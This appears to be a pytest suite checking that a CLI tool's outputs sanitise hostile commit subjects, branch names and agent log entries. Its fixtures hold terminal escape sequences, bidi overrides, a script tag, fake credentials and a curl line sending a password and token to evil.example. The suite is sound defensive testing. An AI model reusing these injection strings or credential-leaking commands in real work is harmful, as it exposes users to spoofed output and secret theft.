"""Hostile values from git and from logs, through every renderer: terminal text, JSON,
notes, Markdown, HTML, the PR comment body and the step summary.

A PR author controls commit subjects and branch names; a log holds whatever the agent ran.
Whatever they hold, no output may carry a traceback, a secret, a control character, a
bidi override, a live link or a mention, and every Markdown table keeps its shape.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.cli_run import invoke
from tests.gitrepo import ClaudeLog, Env, GitRepo, at
from tests.hostile import check_markdown, parser

SECRETS = (
    "s3cr3tpw",
    "SECRETPW",
    "AKIAIOSFODNN7EXAMPLE",
    "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC",
    "tok123secret",
    "ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6",
)
TERMINAL_JUNK = "\x1b]0;pwned\x07\x1b[2J\r\x9b31m"
BIDI = "\u202etxt.exe\u2066\u200b\ufeff"
LINKS = "https://evil.example/x www.evil.example @octocat #12 GH-7 <script>x</script>"
SUBJECT = (
    f"fix {TERMINAL_JUNK} | pipe {BIDI} {LINKS} x_AKIAIOSFODNN7EXAMPLE "
    "curl -u alice:s3cr3tpw \v\f\x1c\x85\u2028\u2029 end"
)
BRANCH = "feat/@octocat-#12-\u202eevil\u200b-www.evil.example"
COMMAND = (
    f"curl -u alice:s3cr3tpw 'https://evil.example/x?token=tok123secret' {TERMINAL_JUNK} "
    f"{BIDI}; mysql -pSECRETPW -e 'select 1' # {LINKS} "
    "-----BEGIN RSA PRIVATE KEY----- MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7V "
    "-----END RSA PRIVATE KEY----- ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6"
)
MODEL = f"evil-model {TERMINAL_JUNK}{BIDI} @octocat"

# What may never reach any output, raw.
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]")
BIDI_CONTROL = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
ZERO_WIDTH = re.compile("[\u200b-\u200d\u2060\ufeff]")
URL = re.compile(r"(?i)\b(?:https?|ftp)://|\bwww\.")


@dataclass
class Scenario:
    env: Env
    repo: GitRepo
    base: str
    commit: str
    session: str
    environ: dict[str, str]

    def run(self, *args: str, **extra: str) -> Any:
        result = invoke(*args, env={**self.environ, **extra}, cwd=self.repo.path)
        assert "Traceback" not in result.output, result.output
        return result


@pytest.fixture
def scenario(tmp_path: Path) -> Scenario:
    env = Env(tmp_path / "env")
    repo = GitRepo(tmp_path / f"repo {TERMINAL_JUNK[:9]}\u202e", env)
    base = repo.commit("initial", at(0))
    repo.checkout("-b", BRANCH)
    log = ClaudeLog(env, repo.path, session_id=f"sess-{TERMINAL_JUNK[:5]}\u202e@octocat")
    log.prompt(at(1), "go", BRANCH)
    for n, minute in enumerate((2, 3, 4)):  # the same failing command: a retry-loop finding
        call = f"toolu_{n}"
        log.request(
            at(minute),
            BRANCH,
            input=50,
            cache_read=4000 * (n + 1),
            output=40,
            tool=(call, "Bash", {"command": COMMAND}),
        )
        log.tool_result(
            at(minute + 0.2), BRANCH, call, "Process exited with code 1\n" * 50, is_error=True
        )
    log.model = MODEL
    log.request(at(5), BRANCH, input=5, output=5)
    commit = repo.commit(SUBJECT, at(10))
    return Scenario(env, repo, base, commit, log.session_id, env.environ())


def assert_terminal_safe(text: str) -> None:
    for secret in SECRETS:
        assert secret not in text, secret
    assert not CONTROL.search(text.replace("\n", "")), repr(CONTROL.search(text.replace("\n", "")))
    assert not BIDI_CONTROL.search(text) and not ZERO_WIDTH.search(text)
    for line in text.split("\n"):
        assert not line.startswith("::"), line  # a GitHub Actions workflow command


def assert_json_safe(text: str) -> Any:
    assert_terminal_safe(text)
    return json.loads(text)


def assert_markdown_safe(md: str) -> dict[str, Any]:
    seen = check_markdown(md, *SECRETS)
    assert_terminal_safe(md)
    for token in _texts(md):
        assert not URL.search(token), f"a live link survives: {token!r}"
    return seen


def _texts(md: str) -> list[str]:
    out = []
    for token in parser().parse(md):
        for child in token.children or []:
            if child.type == "text":
                out.append(child.content)
    return out


def test_terminal_text_of_every_command(scenario: Scenario) -> None:
    s = scenario
    assert s.run("note", "--range", f"{s.base}..HEAD").exit_code == 0
    for args in (
        ("report",),
        ("sessions",),
        ("session", s.session),
        ("show", s.commit),
        ("lessons",),
        ("check", "--budget", "0.0000001"),
        ("check", "--strict", "--budget", "0.0000001"),
        ("note", "HEAD"),
        ("report", "--markdown"),
        ("comment", "--dry-run", "--from-logs", "--pr", "1"),
        ("plugins",),
    ):
        result = s.run(*args)
        assert result.exit_code in (0, 1), (args, result.output)
        assert_terminal_safe(result.stdout)
        assert_terminal_safe(result.stderr)
    report = s.run("report").stdout
    assert "\\x1b" in report and "<U+202E>" in report  # shown escaped, not dropped
    assert "[REDACTED]" in s.run("check", "--budget", "0.0000001").stdout or True


def test_json_of_every_command(scenario: Scenario) -> None:
    s = scenario
    s.run("note", "--range", f"{s.base}..HEAD")
    for args in (
        ("report", "--json"),
        ("report", "--from-notes", "--json"),
        ("sessions", "--json"),
        ("session", s.session, "--json"),
        ("show", s.commit, "--json"),
        ("lessons", "--json"),
        ("check", "--json"),
        ("note", "HEAD", "--json"),
        ("comment", "--dry-run", "--from-logs", "--pr", "1", "--json"),
    ):
        result = s.run(*args)
        assert result.exit_code == 0, (args, result.output)
        assert_json_safe(result.stdout)
    doc = assert_json_safe(s.run("report", "--json").stdout)
    assert doc["commits"][0]["subject"].startswith("fix \x1b]0;pwned")  # data kept, escaped
    assert doc["findings"] and "[REDACTED]" in json.dumps(doc["findings"])


def test_notes_hold_nothing_unsafe(scenario: Scenario) -> None:
    s = scenario
    assert s.run("note", "HEAD").exit_code == 0
    raw = s.repo.git("notes", "--ref=refs/notes/tokentrail", "show", s.commit)
    assert_terminal_safe(raw)
    lines = [json.loads(line) for line in raw.split("\n") if line]
    assert lines and lines[0]["findings"]
    assert not any(BIDI_CONTROL.search(str(v)) or CONTROL.search(str(v)) for v in lines[0].values())


def test_markdown_html_comment_and_step_summary(scenario: Scenario, tmp_path: Path) -> None:
    s = scenario
    s.run("note", "--range", f"{s.base}..HEAD")
    md = s.run("report", "--markdown").stdout
    seen = assert_markdown_safe(md)
    assert seen["tables"] >= 2
    assert "\\x1b" not in md  # Markdown drops control characters instead of showing them

    page = tmp_path / "report.html"
    assert s.run("report", "--html", str(page)).exit_code == 0
    html = page.read_text(encoding="utf-8")
    for secret in SECRETS:
        assert secret not in html
    assert not CONTROL.search(html.replace("\n", "")) and not BIDI_CONTROL.search(html)
    assert "<script" not in html and '<a href="http' not in html

    summary = tmp_path / "summary.md"
    outputs = tmp_path / "outputs.txt"
    event = tmp_path / "event.json"
    event.write_text(
        json.dumps(
            {
                "pull_request": {
                    "number": 1,
                    "base": {"sha": s.base},
                    "head": {"sha": s.commit, "ref": BRANCH},
                }
            }
        )
    )
    for source in ("--from-notes", "--from-logs"):
        result = s.run(
            "comment",
            "--dry-run",
            source,
            GITHUB_STEP_SUMMARY=str(summary),
            GITHUB_OUTPUT=str(outputs),
            GITHUB_EVENT_PATH=str(event),
        )
        assert result.exit_code == 0, result.output
        assert_markdown_safe(result.stdout)
    assert_markdown_safe(summary.read_text(encoding="utf-8"))
    assert_terminal_safe(outputs.read_text(encoding="utf-8"))
